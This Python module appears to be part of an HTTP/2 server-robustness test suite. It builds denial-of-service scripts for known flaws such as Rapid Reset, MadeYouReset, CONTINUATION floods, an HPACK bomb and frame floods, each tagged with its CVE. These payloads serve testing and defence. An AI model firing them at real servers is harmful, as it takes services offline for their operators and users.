"""Abuse of HTTP/2, each over TLS as a browser would speak it."""

from functools import lru_cache

import frames as f
from case import HOST, RATED_S, Case, Script

MANY = 60_000  # streams that one connection gets through before it has to be another
BURST = 4_000  # frames of a flood that is sent again and again


def opened(*further: bytes, window: int | None = None) -> bytes:
    own = [(f.INITIAL_WINDOW_SIZE, window)] if window is not None else []
    return f.PREFACE + f.settings(*own) + b"".join(further)


def streams(count: int, first: int = 1):
    return range(first, first + 2 * count, 2)


@lru_cache
def rapid_reset() -> Script:
    out = [opened(), f.headers(1, f.request(HOST, keep=True))]
    out += [f.headers(stream, f.again()) + f.rst_stream(stream) for stream in streams(MANY, 3)]
    return Script(b"".join(out))


def made_you_reset(provoke) -> Script:
    """Each stream is reset by the server itself, because of a fault in a frame of it."""
    out = [opened(), f.headers(1, f.request(HOST, keep=True))]
    out += [f.headers(stream, f.again()) + provoke(stream) for stream in streams(MANY, 3)]
    return Script(b"".join(out))


@lru_cache
def made_you_reset_increment() -> Script:
    return made_you_reset(lambda stream: f.window_update(stream, 0))


@lru_cache
def made_you_reset_overflow() -> Script:
    return made_you_reset(lambda stream: f.window_update(stream, f.WINDOW_MAX))


@lru_cache
def made_you_reset_data() -> Script:
    return made_you_reset(lambda stream: f.frame(f.DATA, 0, stream, b"x"))


def continuation() -> Script:
    piece = f.frame(f.CONTINUATION, 0, 1, f.literal(b"x-flood", b"y" * 1000) * 16)
    return Script(opened(f.frame(f.HEADERS, f.END_STREAM, 1, f.request(HOST))), repeat=piece * 16)


def continuation_empty() -> Script:
    return Script(opened(f.frame(f.HEADERS, f.END_STREAM, 1, f.request(HOST))), repeat=f.frame(f.CONTINUATION, 0, 1) * BURST)


def continuation_stall() -> Script:
    return Script(opened(f.frame(f.HEADERS, f.END_STREAM, 1, f.request(HOST))))


def hpack_bomb() -> Script:
    """An entry of 4,000 octets, then 16,000 references to it a request: 64 MB out of 16 KB."""
    first = f.request(HOST) + f.literal(b"x-bomb", b"b" * 3900, keep=True)
    bomb = f.request(HOST) + f.indexed(f.FIRST_DYNAMIC) * 16_000
    return Script(opened(f.headers(1, first), *(f.headers(stream, bomb) for stream in streams(300, 3))))


def huge_headers() -> Script:
    block = f.request(HOST) + b"".join(f.literal(b"x-%d" % number, b"h" * 8000) for number in range(128))
    return Script(opened(*(f.headers(stream, block) for stream in streams(16))))


def tiny_headers() -> Script:
    block = f.request(HOST) + f.indexed(f.ACCEPT_ENCODING_GZIP) * 16_000
    return Script(opened(*(f.headers(stream, block) for stream in streams(300))))


def cookie_crumbs() -> Script:
    block = f.request(HOST) + f.literal(f.COOKIE, b"", keep=True) + f.indexed(f.FIRST_DYNAMIC) * 16_000
    return Script(opened(*(f.headers(stream, block) for stream in streams(300))))


def empty_names() -> Script:
    block = f.request(HOST) + f.literal(b"", b"") * 5_000
    return Script(opened(*(f.headers(stream, block) for stream in streams(300))))


def empty_headers() -> Script:
    """Requests without a field, each of which is malformed."""
    return Script(opened(*(f.headers(stream, b"") for stream in streams(MANY))))


def settings_flood() -> Script:
    return Script(opened(), repeat=f.settings() * BURST)


def settings_table() -> Script:
    """Has the encoder's table emptied and grown again."""
    return Script(opened(), repeat=(f.settings((f.HEADER_TABLE_SIZE, 0)) + f.settings((f.HEADER_TABLE_SIZE, 4096))) * (BURST // 2))


def settings_window() -> Script:
    """Every change of the initial window has every stream's window changed."""
    asked = b"".join(f.headers(stream, f.request(HOST, "/big")) for stream in streams(100))
    turn = f.settings((f.INITIAL_WINDOW_SIZE, 1)) + f.settings((f.INITIAL_WINDOW_SIZE, 0))
    return Script(opened(asked, window=0), repeat=turn * (BURST // 2))


def ping_flood() -> Script:
    return Script(opened(), repeat=f.frame(f.PING, 0, 0, b"12345678") * BURST)


def empty_data() -> Script:
    return Script(opened(f.headers(1, f.request(HOST, "/upload", method=f.POST), end_stream=False)), repeat=f.frame(f.DATA, 0, 1) * BURST)


def padded_data() -> Script:
    """An octet of body in 256 of padding."""
    one = f.frame(f.DATA, f.PADDED, 1, b"\xff" + b"x" + bytes(255))
    return Script(opened(f.headers(1, f.request(HOST, "/upload", method=f.POST), end_stream=False)), repeat=one * 200)


def priority_flood() -> Script:
    return Script(opened(), repeat=b"".join(f.priority(stream, stream - 2 if stream > 1 else 0) for stream in streams(BURST)))


def priority_self() -> Script:
    return Script(opened(), repeat=b"".join(f.priority(stream, stream) for stream in streams(BURST)))


def window_update_flood() -> Script:
    return Script(opened(), repeat=f.window_update(0, 1) * BURST)


def window_overflow() -> Script:
    return Script(opened(f.window_update(0, f.WINDOW_MAX), f.window_update(0, f.WINDOW_MAX)))


def unknown_frames() -> Script:
    return Script(opened(), repeat=f.frame(0xFA, 0, 0) * BURST)


def rst_flood() -> Script:
    first = f.headers(1, f.request(HOST)) + f.rst_stream(1)
    return Script(opened(first), repeat=f.rst_stream(1) * BURST)


def zero_window() -> Script:
    return Script(opened(*(f.headers(stream, f.request(HOST, "/big")) for stream in streams(100)), window=0))


def dribble() -> Script:
    """One octet of window at a time, for each of a hundred streams."""
    asked = b"".join(f.headers(stream, f.request(HOST, "/big")) for stream in streams(100))
    return Script(opened(asked, window=0), repeat=b"".join(f.window_update(stream, 1) for stream in streams(100)))


def buffering() -> Script:
    """A window without an end, and nobody who reads."""
    asked = b"".join(f.headers(stream, f.request(HOST, "/big")) for stream in streams(100))
    return Script(opened(f.window_update(0, f.WINDOW_MAX - 70_000), asked, window=f.WINDOW_MAX))


def last_stream_id() -> Script:
    """The last stream id there is, then others."""
    last = f.WINDOW_MAX
    return Script(opened(f.headers(last, f.request(HOST)), *(f.headers(stream, f.request(HOST)) for stream in streams(1_000))))


def too_many_streams() -> Script:
    """Far more at a time than were allowed, none of which ends by itself."""
    first = f.headers(1, f.request(HOST, "/slow", method=f.POST, keep=True), end_stream=False)
    block = f.indexed(f.POST) + f.indexed(f.HTTPS) + f.indexed(f.FIRST_DYNAMIC + 1) + f.indexed(f.FIRST_DYNAMIC)
    return Script(opened(first, *(f.headers(stream, block, end_stream=False) for stream in streams(20_000, 3))))


def preface_stall() -> Script:
    return Script(f.PREFACE[:10])


def _case(name, title, script, known_as="", **further) -> Case:
    return Case(name, title, "HTTP/2", script, "h2", known_as, **further)


CASES = (
    _case("rapid_reset", "requests, each reset at once", rapid_reset, "CVE-2023-44487"),
    _case("made_you_reset", "requests that the server has to reset: a window update of 0", made_you_reset_increment, "CVE-2025-8671"),
    _case("made_you_reset_overflow", "the same by a window beyond its bound", made_you_reset_overflow, "CVE-2025-8671"),
    _case("made_you_reset_data", "the same by DATA after the request's end", made_you_reset_data, "CVE-2025-8671"),
    _case("continuation", "a header block without an end", continuation, "CVE-2024-27316 and others"),
    _case("continuation_empty", "the same in empty frames", continuation_empty, "CVE-2024-30255"),
    _case("continuation_stall", "a header block that is never ended", continuation_stall, connections=400, pause_s=1, at_least_s=14),
    _case("hpack_bomb", "16,000 references a request to one field of 4 KB", hpack_bomb, "CVE-2016-6581"),
    _case("huge_headers", "1 MiB of fields a request", huge_headers),
    _case("tiny_headers", "16,000 fields a request of one octet each", tiny_headers, "CVE-2019-9516"),
    _case("cookie_crumbs", "16,000 empty cookie crumbs a request", cookie_crumbs),
    _case("empty_names", "fields without name and value", empty_names, "CVE-2019-9516"),
    _case("empty_headers", "HEADERS without an octet", empty_headers, "CVE-2019-9518"),
    _case("settings_flood", "SETTINGS, no acknowledgement is read", settings_flood, "CVE-2019-9515", reads=False),
    _case("settings_table", "SETTINGS that empty the header table again and again", settings_table, "CVE-2019-9515"),
    _case("settings_window", "SETTINGS that move the windows of a hundred streams", settings_window, "CVE-2019-9515"),
    _case("ping_flood", "PING, no acknowledgement is read", ping_flood, "CVE-2019-9512", reads=False),
    _case("empty_data", "empty DATA frames", empty_data, "CVE-2019-9518"),
    _case("padded_data", "an octet of body in 256 of padding", padded_data),
    _case("priority_flood", "PRIORITY of idle streams in a chain", priority_flood, "CVE-2019-9513"),
    _case("priority_self", "streams that depend on themselves", priority_self),
    _case("window_update_flood", "the connection's window, octet by octet", window_update_flood),
    _case("window_overflow", "a window beyond 2³¹ − 1", window_overflow),
    _case("unknown_frames", "frames of a type that there is not", unknown_frames),
    _case("rst_flood", "RST_STREAM of a stream that is closed", rst_flood, "CVE-2019-9514"),
    _case("zero_window", "100 long responses a connection, and no window", zero_window, "CVE-2019-9517", connections=20, at_least_s=RATED_S),
    _case("dribble", "the same, the window an octet at a time", dribble, "CVE-2019-9511", at_least_s=RATED_S),
    _case("buffering", "the same, all window there is, and nobody reads", buffering, "CVE-2019-9517", connections=20, reads=False, receive_buffer=4096, at_least_s=RATED_S),
    _case("last_stream_id", "the last stream id, then others", last_stream_id),
    _case("too_many_streams", "20,000 requests at once on a connection", too_many_streams),
    _case("preface_stall", "half a preface", preface_stall, connections=400, pause_s=1, at_least_s=14),
)
